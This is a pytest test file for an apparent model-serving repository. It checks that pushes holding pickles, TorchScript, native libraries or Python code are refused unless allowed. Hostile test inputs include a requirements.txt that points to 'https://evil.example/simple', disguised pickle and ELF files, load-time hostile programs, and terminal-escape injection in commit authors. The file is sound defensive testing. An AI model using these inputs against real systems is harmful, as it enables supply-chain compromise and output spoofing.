"""Files that can run code are refused in a push unless allowed; what only looks odd passes."""

import gzip
import io
import json
import pickle
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from support.imports import onnx_model
from support.native_code import loaders, mapping, operators
from support.refusals import (
    config_of,
    pushes,
    refused,
    remote_lines,
    started,
    write,
)
from support.server import write_identity as write_model
from support.yard import Yard, write_identity, yard

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def y(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Yard]:
    folder = tmp_path_factory.mktemp("yard")
    write_model(folder / "models", "local", 1)
    with yard(folder) as made:
        yield made


CODE = {
    "model.pkl": "is of format pickle, which can carry code",
    "model.pt": "is of format torch or torchscript, which can carry code",
    "model.py": "is of format python, which can carry code",
    "model.so": "is of format native_library, which can carry code",
    "model.weights": "is of no format this repository takes; it takes .csv",
}
"""What is said of a file of that name."""


def archive(*members: str) -> bytes:
    """A zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for member in members:
            made.writestr(zipfile.ZipInfo(member), b"x")
    return file.getvalue()


HELD = {
    "1/ops.txt": (
        b"\x7fELF\2\1\1" + bytes(60),
        "E440 holds a native library or program, whatever",
    ),
    "1/model.onnx": (
        pickle.dumps({"a": 1}, 4),
        "E440 holds a pickle, whatever it is called, which",
    ),
    "labels.csv": (
        gzip.compress(b"x", mtime=0),
        "E440 holds compressed data, whatever it is called; files",
    ),
    "1/model.safetensors": (b"text", "E440 holds text, whatever it is called; files of its name"),
    "1/model.pt2": (b"\x89HDF\r\n\x1a\n", "E440 holds an HDF5 file, whatever it is called; files"),
    "rows.npz": (
        archive("a.npy", "archive/data.pkl"),
        "E440 holds other things than arrays; write it with numpy.savez",
    ),
    "1/notes.txt~": (b"x", "E440 is of no format this repository takes"),
    "1/.hidden": (b"x", "E409 is hidden, and a model's hidden files are never read; remove it"),
    ".cache/model.onnx": (b"x", "E409 is hidden, and a model's hidden files are never read"),
    "1/.gitkeep/x.txt": (b"x", "E409 is hidden, and a model's hidden files are never read"),
}
"""By file of a model: what it holds, and what is said of it."""


@pytest.fixture(scope="module")
def complaints(y: Yard) -> list[str]:
    """What the pusher of all these files, each in a model of its own, reads, by line."""
    models = [f"m{number}" for number in range(len(CODE) + len(HELD))]
    work = started(y, "files", *models)
    files = [(f"1/{file}", b"\x80\x04N.") for file in CODE]
    files += [(file, content) for file, (content, _) in HELD.items()]
    for model, (file, content) in zip(models, files, strict=True):
        write(work, {f"models/{model}/{file}": content})
    y.git(work, "add", "-f", ".")
    y.commit(work, "files")
    return remote_lines(refused(y, work, says="nothing was changed in"))


@pytest.mark.parametrize("file", CODE)
def test_a_file_that_can_carry_code_is_refused(complaints: list[str], file: str) -> None:
    model = f"m{list(CODE).index(file)}"
    assert any(f"models/{model}/1/{file} E440 {CODE[file]}" in line for line in complaints)


@pytest.mark.parametrize("file", HELD)
def test_a_file_is_judged_by_what_it_holds(complaints: list[str], file: str) -> None:
    model = f"m{len(CODE) + list(HELD).index(file)}"
    assert any(f"models/{model}/{file} {HELD[file][1]}" in line for line in complaints)


def test_requirements_take_a_permission_of_their_own_and_name_packages_alone(y: Yard) -> None:
    work = y.repository("packages")
    allowed = ["python", "config", "labels"]
    assert y.api("PATCH", "/repositories/packages", {"settings": {"formats": allowed}})[0] == 200
    model = "models/packaged/1"
    code = "class TritonPythonModel:\n    def execute(self, requests): return []\n"
    config = 'backend: "python" output { name: "OUT" data_type: TYPE_FP32 dims: 1 }'
    write(work, {f"{model}/model.py": code, "models/packaged/config.pbtxt": config})
    write(work, {f"{model}/requirements.txt": "six==1.17.0\n"})
    y.commit(work, "packages")
    told = "would run packages of a Python environment ('1/requirements.txt')"
    allow = "(modelyard repo change packages --add-format python_environment)"
    refused(y, work, says=(f"E440 {told}", allow))
    allowed.append("python_environment")
    assert y.api("PATCH", "/repositories/packages", {"settings": {"formats": allowed}})[0] == 200
    write(work, {f"{model}/requirements.txt": "six\n--index-url https://evil.example/simple\n"})
    y.commit(work, "hostile")
    refused(y, work, says=f"{model}/requirements.txt:2:1 E303 is '--index-url https://evil.example")
    write(work, {f"{model}/requirements.txt": "six\n"})
    y.commit(work, "packages from nowhere")
    y.push(work)
    warning = "packaged 1: its requirements.txt is not installed, and it runs on the server's own"
    y.wait_for(lambda: warning in y.server.log(), "the load, on the server's own Python")


def test_hidden_files_that_git_reads_pass_with_a_model(y: Yard) -> None:
    work = started(y, "gits", "gits")
    for name in (".gitattributes", "1/.gitignore", "1/.gitkeep", ".lfsconfig"):
        write(work, {f"models/gits/{name}": ""})
    write(work, {".github/workflows/test.yml": "on: push", ".pre-commit-config.yaml": ""})
    y.commit(work, "git's own")
    assert "served: gits" in y.push(work)


def test_a_config_names_no_hidden_file(y: Yard) -> None:
    work = started(y, "names-hidden", "names-hidden")
    config = config_of(work, "names-hidden")
    config.write_text(config.read_text() + 'default_model_filename: ".gitkeep"\n')
    write(work, {"models/names-hidden/1/.gitkeep": "x"})
    y.commit(work, "named")
    refused(y, work, says="E119 default_model_filename must not name a hidden file")


def test_a_python_backend_under_another_file_name_is_refused(y: Yard) -> None:
    work = y.repository("disguise")
    config = 'backend: "python" default_model_filename: "model.txt"'
    write(
        work, {"models/disguise/config.pbtxt": config, "models/disguise/1/model.txt": "import os"}
    )
    y.commit(work, "code in a text")
    refused(y, work, says="models/disguise/1 E440 would run code with the backend 'python'")


def test_operators_of_a_models_own_are_served_by_a_worker_where_an_administrator_allowed_them(
    y: Yard, tmp_path: Path
) -> None:
    marker = tmp_path / "loaded"
    work = y.repository("operators")
    config = 'backend: "onnxruntime" model_operations { op_library_filename: "ops.so" }'
    write(
        work,
        {
            "models/operators/config.pbtxt": config,
            "models/operators/1/model.onnx": onnx_model(),
        },
    )
    operators(work / "models/operators/1/ops.so", marker)
    y.commit(work, "native code")
    refused(y, work, says="models/operators/1/ops.so E440 is of format native_library")
    allowed = ["onnx", "config", "native_library"]
    assert y.api("PATCH", "/repositories/operators", {"settings": {"formats": allowed}})[0] == 200
    assert "served: operators" in y.push(work)
    (worker,) = mapping("operators/1/ops.so")
    assert Path(f"/proc/{worker}/stat").read_text().split(") ")[1].split()[1] == str(y.server.pid)
    assert y.server.pid not in loaders(marker)


def test_a_library_that_the_config_names_is_refused_under_any_file_name(
    y: Yard, tmp_path: Path
) -> None:
    work = y.repository("disguised-operators")
    model = "models/disguised-operators"
    config = 'backend: "onnxruntime" model_operations { op_library_filename: "ops.txt" }'
    write(work, {f"{model}/config.pbtxt": config, f"{model}/1/model.onnx": onnx_model()})
    write(work, {f"{model}/1/ops.txt": "not even a library"})
    y.commit(work, "native code")
    told = "would load native code from 'ops.txt' (model_operations.op_library_filename)"
    column = config.index("op_library_filename") + 1
    allow = "(modelyard repo change disguised-operators --add-format native_library)"
    refused(y, work, says=(f"{model}/config.pbtxt:1:{column} E440 {told}", allow))


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
@pytest.mark.parametrize(
    ("formats", "ok"), [(["config"], False), (["config", "torchscript"], True)]
)
def test_torchscript_under_another_file_name_is_refused(
    y: Yard, formats: list[str], ok: bool
) -> None:
    torch = pytest.importorskip("torch")
    model = f"script{len(formats)}"
    work = y.repository(model, formats=formats)
    config = (
        'backend: "pytorch" default_model_filename: "model.json" max_batch_size: 8 '
        'input { name: "x" data_type: TYPE_FP32 dims: 4 } '
        'output { name: "OUTPUT__0" data_type: TYPE_FP32 dims: 4 }'
    )
    write(work, {f"models/{model}/config.pbtxt": config})
    (work / f"models/{model}/1").mkdir()
    traced = torch.jit.trace(torch.nn.ReLU(), torch.zeros(2, 4))
    traced.save(str(work / f"models/{model}/1/model.json"))
    y.commit(work, "TorchScript in disguise")
    if ok:
        assert f"served: {model}" in y.push(work)
    else:
        told = "holds a zip archive, whatever it is called, which can carry code and is not allowed"
        refused(y, work, says=f"models/{model}/1/model.json E440 {told}")


@pytest.mark.slow
@pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::FutureWarning")
def test_a_program_that_runs_code_when_it_is_loaded_is_refused_and_runs_nowhere(
    y: Yard, tmp_path: Path
) -> None:
    pytest.importorskip("torch")
    from support import hostile_programs as hostile

    honest, marker = tmp_path / "model.pt2", tmp_path / "marker"
    hostile.save_program(honest)
    work = y.repository("program")
    (work / "models/program/1").mkdir(parents=True)
    for way in ("enum", "guard"):
        hostile.save_hostile(way, honest, work / "models/program/1/model.pt2", marker)
        y.commit(work, way)
        told = "would run code with the backend 'pytorch', in what 'model.pt2' holds beside what "
        advice = "export it again with torch.export.save and no code of its own, or ask an admin"
        refused(y, work, says=(f"models/program/1 E440 {told}", advice))
    (work / "models/program/1/model.pt2").write_bytes(honest.read_bytes())
    y.commit(work, "honest")
    assert "served: program" in y.push(work)
    assert not marker.exists()


def test_python_code_is_served_where_an_administrator_allowed_it(y: Yard) -> None:
    formats = ["config", "text", "python"]
    work = y.repository("allowed", formats=formats)
    example = Path(__file__).parents[3] / "examples/shout"
    write(
        work,
        {
            "models/shout/config.pbtxt": (example / "config.pbtxt").read_bytes(),
            "models/shout/1/model.py": (example / "model.py").read_bytes(),
        },
    )
    y.commit(work, "shout")
    assert "served: shout" in y.push(work)
    inputs = [{"name": "TEXT", "datatype": "BYTES", "shape": [1, 1], "data": ["hey"]}]
    status, body = y.server.post("/v2/models/shout/infer", {"inputs": inputs})
    assert (status, json.loads(body)["outputs"][0]["data"]) == (200, ["HEY"])


# what is not refused


def test_an_empty_commit_and_one_without_models_change_nothing(y: Yard) -> None:
    work = y.repository("empty")
    y.git(work, "commit", "-q", "--allow-empty", "-m", "nothing")
    assert "no model in this commit: put them below models/NAME/" in y.push(work)
    assert pushes(y, "empty")[0]["state"] == "served"


def test_a_branch_that_is_not_protected_can_be_deleted_and_keeps_its_models(y: Yard) -> None:
    work = started(y, "deletable", "deletable", protected=[])
    y.commit(work, "first")
    y.push(work)
    y.wait_versions("deletable", 1)
    assert "main is deleted; what it deployed stays deployed" in y.push(work, ":main")
    assert y.versions("deletable") == [1]


def test_a_version_under_a_new_number_is_another_version(y: Yard) -> None:
    work = started(y, "renumbered", "renumbered")
    y.commit(work, "first")
    y.push(work)
    y.git(work, "mv", "models/renumbered/1", "models/renumbered/2")
    y.commit(work, "renumbered")
    assert "renumbered: version 2 (identity, " in y.push(work)
    y.wait_versions("renumbered", 2)
    versions = y.api("GET", "/models/renumbered/versions")[1]["items"]
    assert len({one["digest"] for one in versions}) == 1
    assert sorted(one["version"] for one in versions) == [1, 2]


def test_words_of_strangers_play_no_tricks(y: Yard) -> None:
    work = started(y, "strangers", "strangers")
    y.git(work, "add", "-A")
    evil = "\x1b]0;owned\x07\x1b[31mred\N{RIGHT-TO-LEFT OVERRIDE}der\x1b[2J"
    author = f"Mallory{evil}\nremote: served: all <m@x>".replace("\n", " ")
    y.git(work, "commit", "-q", f"--author={author}", "-m", f"{evil}\n\nremote: served: all")
    said = y.push(work)
    shown = [
        "\n".join(remote_lines(said)),
        y.cli("push", "list", "--repo", "strangers"),
        y.cli("push", "show", pushes(y, "strangers")[0]["id"]),
        y.cli("repo", "log", "strangers"),
        str(pushes(y, "strangers")[0]["subject"]),
        str(pushes(y, "strangers")[0]["author"]),
        str(y.api("GET", "/repositories/strangers/commits")[1]["items"][0]["author"]),
    ]
    for text in shown:
        assert not {"\x1b", "\x07", "\N{RIGHT-TO-LEFT OVERRIDE}", "\x9b"} & set(text), text
    assert not [line for line in remote_lines(said) if "served: all" in line]


@pytest.mark.slow
def test_three_hundred_models_in_one_commit_are_checked_and_served(y: Yard) -> None:
    names = [f"many{number}" for number in range(300)]
    work = started(y, "many", *names)
    y.commit(work, "three hundred")
    y.push(work)
    y.wait_for(lambda: all(y.versions(name) == [1] for name in names[::60]), "them", 120)
    write_identity(work, "many7", 2)
    y.commit(work, "one more version")
    said = y.push(work)
    assert "many7: version" in said
    assert "many8" not in said
